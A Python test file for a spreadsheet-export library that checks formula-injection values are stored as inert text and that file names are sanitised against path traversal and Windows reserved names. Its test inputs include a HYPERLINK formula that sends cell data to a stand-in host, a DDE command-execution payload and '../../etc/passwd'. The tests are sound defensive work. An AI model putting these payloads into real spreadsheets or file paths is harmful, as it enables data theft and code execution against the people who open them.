"""Hostile content out: formulas stay text in written workbooks; file names stay in their folder."""

import datetime as dt
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from silverdesk.domain.safe_cells import (
    EXCEL_MAX_CHARS,
    MAX_FILENAME_BYTES,
    WINDOWS_RESERVED,
    LiteralText,
    clean_filename,
    excel_safe,
    safe_filename,
    set_cell,
)

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=",
]


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


def write_normal(path: Path, values: list[object]) -> None:
    wb = Workbook()
    ws = wb.active
    for row, value in enumerate(values, start=1):
        set_cell(ws.cell(row=row, column=1), value)
    wb.save(path)


def write_streaming(path: Path, values: list[object]) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Sheet1")
    for value in values:
        cell = WriteOnlyCell(ws)
        set_cell(cell, value)
        ws.append([cell])
    wb.save(path)


@pytest.mark.parametrize("writer", [write_normal, write_streaming])
def test_hostile_values_come_back_as_the_same_text_and_no_formula_is_written(tmp_path, writer):
    path = tmp_path / "out.xlsx"
    writer(path, HOSTILE)
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    ws = load_workbook(path).worksheets[0]
    expected = [v.replace("\r", "\n") for v in HOSTILE]  # line breaks are stored as LF
    assert [ws.cell(row=i, column=1).value for i in range(1, len(HOSTILE) + 1)] == expected
    assert all(ws.cell(row=i, column=1).data_type == "s" for i in range(1, len(HOSTILE) + 1))
    # Excel's own "typed with a leading apostrophe" flag, so a re-edited cell stays text
    assert ws.cell(row=1, column=1).quotePrefix


def test_without_the_guard_openpyxl_would_have_written_a_formula(tmp_path):
    """The control experiment: proves the test above would notice a regression."""
    path = tmp_path / "plain.xlsx"
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    wb.save(path)
    assert "<f>" in sheet_xml(path)


def test_ordinary_values_keep_their_types(tmp_path):
    path = tmp_path / "types.xlsx"
    values = [42, -3.5, dt.date(2026, 11, 20), "张建国", "𠮷祥", "13812345678", True]
    write_normal(path, values)
    ws = load_workbook(path).worksheets[0]
    got = [ws.cell(row=i, column=1).value for i in range(1, len(values) + 1)]
    assert got[0] == 42 and got[1] == -3.5
    assert got[2].date() == dt.date(2026, 11, 20)
    assert got[3:] == ["张建国", "𠮷祥", "13812345678", True]
    assert not ws.cell(row=4, column=1).quotePrefix


def test_excel_safe_marks_and_cleans():
    assert isinstance(excel_safe("=1"), LiteralText)
    assert not isinstance(excel_safe("张三"), LiteralText)
    assert excel_safe("a\x00b\x1fc") == "abc"
    assert len(excel_safe("x" * 40000)) == EXCEL_MAX_CHARS
    assert excel_safe(None) is None and excel_safe(7) == 7
    assert excel_safe(Path("a")) == "a"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(st.text(), st.integers(-(10**15), 10**15), st.none()), min_size=1, max_size=8))
def test_any_value_writes_and_reads_back_without_formulas(tmp_path, values):
    path = tmp_path / "any.xlsx"
    write_streaming(path, values)
    xml = sheet_xml(path)
    assert "<f>" not in xml
    ws = load_workbook(path).worksheets[0]
    for i, value in enumerate(values, start=1):
        got = ws.cell(row=i, column=1).value
        expected = excel_safe(value)
        if isinstance(expected, str):
            assert (got or "") == expected  # an empty string comes back as an empty cell
        else:
            assert got == expected


@given(st.one_of(st.text(), st.binary().map(repr), st.integers(), st.floats(allow_nan=False), st.none()))
def test_excel_safe_never_raises_and_never_leaves_a_formula_start_unmarked(value):
    out = excel_safe(value)
    if isinstance(out, str):
        assert len(out) <= EXCEL_MAX_CHARS
        assert "\x00" not in out
        if out[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
            assert isinstance(out, LiteralText)


# -- file names ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "_.._etc_passwd"),
        ("..", "未命名"),
        ("C:\\Windows\\system32\\cmd.exe", "C__Windows_system32_cmd.exe"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("com1.tar.gz", "_com1.tar.gz"),
        ("城关街道 2026年10月 报表.xlsx", "城关街道 2026年10月 报表.xlsx"),
        ("退回:龙山镇*花名册?.xlsx", "退回_龙山镇_花名册_.xlsx"),
        ("name. ", "name"),
        ("\x00\x01\x1f", "未命名"),
        ("a\nb", "a_b"),
        ("𠮷祥.xlsx", "𠮷祥.xlsx"),
    ],
)
def test_clean_filename_examples(name, expected):
    assert clean_filename(name) == expected


def test_long_chinese_names_are_cut_on_a_character_boundary_keeping_the_extension():
    name = clean_filename("龙" * 200 + ".xlsx")
    assert name.endswith(".xlsx")
    assert len(name.encode("utf-8")) <= MAX_FILENAME_BYTES
    assert set(name[:-5]) == {"龙"}


@given(st.text())
def test_clean_filename_is_always_one_harmless_component(name):
    out = clean_filename(name)
    assert out and out not in (".", "..")
    assert not any(sep in out for sep in "/\\:")
    assert not any(ord(ch) < 32 for ch in out)
    assert not out.endswith((" ", "."))
    assert not out.startswith(".")
    assert out.split(".")[0].strip().upper() not in WINDOWS_RESERVED
    assert len(out.encode("utf-8")) <= MAX_FILENAME_BYTES


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(min_size=0, max_size=300))
def test_safe_filename_never_escapes_the_folder_and_can_be_created(tmp_path, name):
    folder = tmp_path / "out"
    folder.mkdir(exist_ok=True)
    path = safe_filename(name, folder)
    assert path.parent == folder
    assert path.resolve().parent == folder.resolve()
    path.write_bytes(b"x")  # the operating system accepts it
    assert path.read_bytes() == b"x"
    path.unlink()
